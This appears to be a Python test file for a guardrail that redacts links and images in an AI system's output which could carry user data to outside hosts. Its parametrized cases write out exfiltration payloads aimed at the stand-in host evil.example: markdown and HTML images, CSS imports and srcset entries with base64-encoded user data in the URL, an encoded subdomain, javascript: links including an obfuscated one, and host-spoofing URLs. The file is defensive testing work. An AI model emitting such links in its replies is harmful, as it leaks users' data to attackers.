"""Links and images: what would carry data to somebody else is cut out, however it is written."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine import Action, GuardItem, Stage
from guardrails import Exfiltration
from guardrails.links import LONGEST

DATA = base64.b64encode(b"the user asked for 1200 EUR").decode()


def look(text, **fields):
    return Exfiltration(**fields).check_text(text, GuardItem(stage=Stage.RUN_OUTPUT, value=text))


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://evil.example/p.png?q={DATA})",
        f"![x][1]\n\n[1]: https://evil.example/p.png?q={DATA}",
        f"![x](<https://evil.example/p.png?q={DATA}>)",
        f"![x](//evil.example/p.png?q={DATA})",
        f"<img src='https://evil.example/{DATA}'>",
        f"<IMG\nSRC=https://evil.example/{DATA}>",
        f'<img srcset="https://a.example/1.png 1x, https://evil.example/{DATA} 2x">',
        f"<style>@import url(https://evil.example/s.css?d={DATA});</style>",
        f'<p style="background:url(https://evil.example/{DATA})">',
        f"see https://evil.example/?{DATA.encode().hex()}",
        "[a](https://user:pass@evil.example/)",
        "[a](javascript:alert(1))",
        "[a](java&#115;cript:alert(1))",
        '<a href="  javascript:alert(1)">x</a>',
        "https://dxnlcibhc2tlzcb0byb0cmfuc2zlciaxmjawievvuib0bybertg5mzcwndaw.evil.example/",
        "https://evil.example/?q=the+password+is+hunter2",
    ],
)
def test_what_carries_data_is_cut_out(text):
    verdict = look(text)
    assert verdict.action is Action.REDACT
    left = verdict.applied_to(text)
    assert "evil.example" not in left
    assert look(left).action is Action.ALLOW


@pytest.mark.parametrize(
    "text",
    [
        "",
        "See [the docs](https://docs.python.org/3/library/re.html#re.compile) or mail <mailto:a@b.example>.",
        "https://github.com/a/b/commit/f38c08b3057b081859178d44fa2832bed46561a9",
        "https://en.wikipedia.org/wiki/A_long_title_with_many_words",
        '<sup><a href="https://github.com/a/b#L12" target="_blank"><i style="width: 14px" /></a></sup>',
        "![logo](https://img.example.com/logo.png) and [here](../other.md)",
        "a: b, c:d; x < y > z `code` [not a link]",
    ],
)
def test_what_a_text_commonly_links_to_passes(text):
    assert look(text).action is Action.ALLOW


def test_with_hosts_what_loads_by_itself_comes_from_one_of_them():
    assert look("![x](https://cdn.acme.com/a.png?v=1)", hosts=["acme.com"]).action is Action.ALLOW
    for other in (
        "https://evilacme.com/a.png",
        "https://acme.com.evil.example/a.png",
        "https://acme.com@evil.example/",
    ):
        assert "not on the list" in look(f"![x]({other})", hosts=["acme.com"]).reason
    assert look("[x](https://python.org)", hosts=["acme.com"]).action is Action.ALLOW
    assert look("[x](https://python.org)", hosts=["acme.com"], links="listed").action is Action.REDACT


def test_a_text_that_is_too_long_to_be_read_is_not_let_through():
    assert look("a" * (LONGEST + 1)).action is Action.BLOCK


@given(st.text(alphabet="[]()<>!\\`*_ahtps:/?#=&\"'\n \u200b\ud800", max_size=300))
def test_any_text_is_read_and_its_spans_lie_in_it(text):
    for span in look(text).spans:
        assert 0 <= span.start < span.end <= len(text)
